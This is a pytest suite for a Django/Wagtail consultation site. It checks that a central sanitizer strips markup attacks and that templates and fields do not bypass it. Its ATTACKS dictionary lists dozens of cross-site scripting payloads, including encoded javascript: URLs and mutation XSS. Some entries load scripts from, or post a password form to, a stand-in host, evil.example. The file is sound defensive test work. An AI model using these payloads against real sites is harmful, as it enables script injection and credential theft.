"""Everything that brings markup in goes through one module, which known attacks do not pass."""

import html
import re
from html.parser import HTMLParser

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st
from wagtail.blocks import RawHTMLBlock, RichTextBlock, StreamBlock
from wagtail.fields import RichTextField, StreamField
from wagtail.images import get_image_model
from wagtail.images.utils import get_allowed_image_extensions

from consultation.markup import (
    LONGEST,
    MOST_TAGS,
    TAGS,
    CleanRichTextBlock,
    CleanRichTextField,
    clean_rich_text,
    clean_shown_markup,
    holds_markup,
    strip_markup,
)
from consultation.templatetags.rich_text import cleaned_markup

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script closed by itself": "<script/src=data:,alert(1)>",
    "script inside script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event of a picture": "<img src=x onerror=alert(1)>",
    "event without quotes or spaces": "<svg/onload=alert(1)>",
    "event after a line break": "<p\nonmouseover\n=\nalert(1)>x</p>",
    "event of an allowed tag": '<a href="https://example.org" onclick="alert(1)">x</a>',
    "event of a details": "<details open ontoggle=alert(1)>x</details>",
    "focus at once": "<p autofocus tabindex=1 onfocus=alert(1)>x</p>",
    "tag that is never closed": "<img src=x onerror=alert(1) <b>x</b>",
    "address of a script": '<a href="javascript:alert(1)">x</a>',
    "address in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "address with a decimal entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "address with a long entity": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "address with a hexadecimal entity": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "address with a named entity": '<a href="java&Tab;script&colon;alert(1)">x</a>',
    "address with a line break": '<a href="java\nscript:alert(1)">x</a>',
    "address with a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "address with a zero": '<a href="java\x00script:alert(1)">x</a>',
    "address of another script": '<a href="vbscript:msgbox(1)">x</a>',
    "data address": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data address in base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "address that is two": '<a href="https://example.org" href="javascript:alert(1)">x</a>',
    "address of svg": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "animated address": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    "style": "<style>@import'//evil.example/x.css';</style>",
    "style of a tag": '<p style="background:url(javascript:alert(1))">x</p>',
    "style over the page": '<a style="position:fixed;inset:0" href="https://evil.example">x</a>',
    "style with an expression": '<p style="width:expression(alert(1))">x</p>',
    "class": '<p class="danger">x</p>',
    "set of pictures": '<img srcset="//evil.example/a 1x, javascript:alert(1) 2x">',
    "picture and source": "<picture><source srcset=x onerror=alert(1)><img></picture>",
    "background of a table": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "frame": '<iframe src="//evil.example"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="//evil.example/x.swf">',
    "base": '<base href="//evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "link to a sheet": '<link rel=stylesheet href="//evil.example/x.css">',
    "form": '<form action="//evil.example"><input name=password><button>Go</button></form>',
    "button of another form": '<button formaction="javascript:alert(1)" form=answers>x</button>',
    "name of an element of the page": '<a id="easy" name="form">x</a>',
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>",
    "mutation by svg": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "mutation by forms": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=x>'>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by a title": '<title><a title="</title><img src=x onerror=alert(1)>">',
    "mutation by a text area": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "mutation by a select": "<select><template><style><!--</style><a rel='--></style></template></select><img onerror=x>'>",
    "namespace by foreignObject": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "namespace by desc": "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "namespace by annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></math>',
    "namespace by mglyph": "<math><mi><mglyph><svg><script>alert(1)</script></svg></mglyph></mi></math>",
    "title of svg": "<svg><title><script>alert(1)</script></title></svg>",
    "use of svg": '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></use></svg>',
    "set of svg": "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "template in a template": "<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>",
    "declared shadow": '<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>x</div>',
    "braces of a template": "<p>{{ constructor.constructor('alert(1)')() }}</p><img src={{x}} onerror=alert(1)>",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment that ends strangely": "<!--!><script>alert(1)</script>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "half a tag": "<<img src=x onerror=alert(1)//",
    "slash for a space": "<img/src=x/onerror=alert(1)>",
    "backtick quotes": "<img src=`x`onerror=alert(1)>",
    "entity for a tag": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "unicode that folds": '<a href="ja\u017fvascript:alert(1)">\u017fcript</a><\u017fcript>alert(1)</\u017fcript>',
    "wide letters": "＜script＞alert(1)＜/script＞",
    "popover": "<button popovertarget=x>Go</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
    "portal of a custom element": '<x-frame onfocus=alert(1) tabindex=1 contenteditable>x</x-frame>',
}  # fmt: skip
ALLOWED_SCHEMES = {"", "http", "https", "mailto", "tel"}
PAGES_OF_AN_OFFICER = (
    '<h2 data-block-key="k1">Who runs this</h2><p data-block-key="k2">Ask <a linktype="page" id="3">us</a> &amp; look at '
    '<b>this</b>.<br/>Or <a href="https://example.org/?a=1&amp;b=2">there</a>.</p><ul><li data-block-key="k3">One</li></ul>'
)


class FoundMarkup(HTMLParser):
    def __init__(self, markup):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def scheme_of(link):
    """As a browser reads it: without control characters and spaces before it, and without line breaks in it."""
    found = re.match(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.sub(r"[\t\r\n]", "", link or ""), re.IGNORECASE)
    return found[1].lower() if found else ""


def is_harmless(markup, attributes):
    found = FoundMarkup(markup)
    links = [value for name, value in found.attributes if name == "href"]
    return (
        found.tags <= TAGS
        and {name for name, _ in found.attributes} <= attributes
        and {scheme_of(link) for link in links} <= ALLOWED_SCHEMES
        and "<!--" not in markup
    )


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_no_known_attack_passes_into_the_database_or_out_to_a_page(attack):
    assert is_harmless(clean_rich_text(attack), {"href", "id", "linktype", "data-block-key"})
    assert is_harmless(clean_shown_markup(attack), {"href"})
    assert is_harmless(cleaned_markup(attack), {"href"})


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_what_is_clean_stays_as_it_is_so_that_nothing_turns_into_another_thing(attack):
    for clean in (clean_rich_text, clean_shown_markup):
        assert clean(clean(attack)) == clean(attack)


@given(st.text(st.sampled_from("<>/='\"&;:!- \n\x00ajsvgimhref#x6A"), max_size=60))
def test_no_string_of_markup_letters_passes(text):
    assert is_harmless(clean_shown_markup(text), {"href"})


def test_what_an_officer_writes_with_the_editor_stays_as_it_was():
    assert clean_rich_text(PAGES_OF_AN_OFFICER) == PAGES_OF_AN_OFFICER.replace("<br/>", "<br>")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_plain_text_keeps_no_tag(attack):
    assert not FoundMarkup(strip_markup(attack)).tags


@pytest.mark.parametrize(
    "said", ["1 < 2 and 3 > 2", "I <3 this", "Fish & chips &amp; <3", "a<b", "“Yes”, it’s so", "Is <your name> ok?"]
)
def test_ordinary_words_are_no_markup(said):
    assert strip_markup(said) == said and not holds_markup(said)
    assert holds_markup(f"<b>{said}</b>")


def test_tags_that_hide_in_tags_are_all_gone():
    assert strip_markup("<<b>script>alert(1)</script>") == "alert(1)"
    with pytest.raises(ValidationError):
        strip_markup("<<<<<<<b>b>b>b>b>b>b>script>")


@pytest.mark.parametrize("said", ["I <3 this", "a < b and c > d", "Fish & chips", "1<2", "“Yes”, it’s so"])
def test_rich_text_keeps_the_characters_of_its_words(said):
    """As the editor sends them, and as a file may: a page shows the same words."""
    for written in (f"<p>{html.escape(said, quote=False)}</p>", f"<p>{said}</p>"):
        for clean in (clean_rich_text, clean_shown_markup):
            assert html.unescape(clean(written)) == f"<p>{said}</p>"


def test_the_words_of_respondents_never_meet_the_cleaner(settings):
    """What a child writes is kept as it was typed, whatever it looks like; pages escape it."""
    ways = [f"consultation/{room}" for room in ("channels", "responses", "reading", "receipts", "safeguarding")]
    files = [path for way in (*ways, "insights/corpus") for path in (settings.BASE_DIR / way).rglob("*.py")]
    assert len(files) > 100
    assert not [path for path in files if re.search(r"bleach|consultation\.markup|\bmarkup import", path.read_text())]


@pytest.mark.parametrize("much", ["x" * (LONGEST + 1), "<b>" * (MOST_TAGS + 1)])
def test_more_than_can_be_checked_is_refused(much):
    with pytest.raises(ValidationError, match="too long"):
        clean_rich_text(much)


def list_own_models():
    return [model for app in ("cms", "consultation", "insights") for model in apps.get_app_config(app).get_models()]


def walk_blocks(block):
    yield block
    for child in getattr(block, "child_blocks", {}).values():
        yield from walk_blocks(child)
    if hasattr(block, "child_block"):
        yield from walk_blocks(block.child_block)


def test_each_rich_text_field_and_block_is_a_clean_one():
    fields = [field for model in list_own_models() for field in model._meta.get_fields()]
    rich = [field for field in fields if isinstance(field, RichTextField)]
    streams = [field.stream_block for field in fields if isinstance(field, StreamField)]
    blocks = [block for stream in streams for block in walk_blocks(stream)]
    assert rich and all(isinstance(field, CleanRichTextField) for field in rich)
    found = [block for block in blocks if isinstance(block, RichTextBlock)]
    assert found and all(isinstance(block, CleanRichTextBlock) for block in found)
    assert any(isinstance(block, StreamBlock) for block in blocks)
    assert not any(isinstance(block, RawHTMLBlock) for block in blocks)


# Help texts are the code's own; the style of a chart is built from numbers.
UNESCAPED = {"components/field.html"}


def test_no_template_shows_markup_past_the_module(settings):
    folder = settings.BASE_DIR / "templates"
    found = {
        str(path.relative_to(folder))
        for path in folder.rglob("*.html")
        if any(sign in path.read_text() for sign in ("|richtext", "|safe", "autoescape off"))
    }
    assert found == UNESCAPED


def test_no_picture_of_the_library_may_hold_a_script():
    assert get_image_model() and "svg" not in get_allowed_image_extensions()
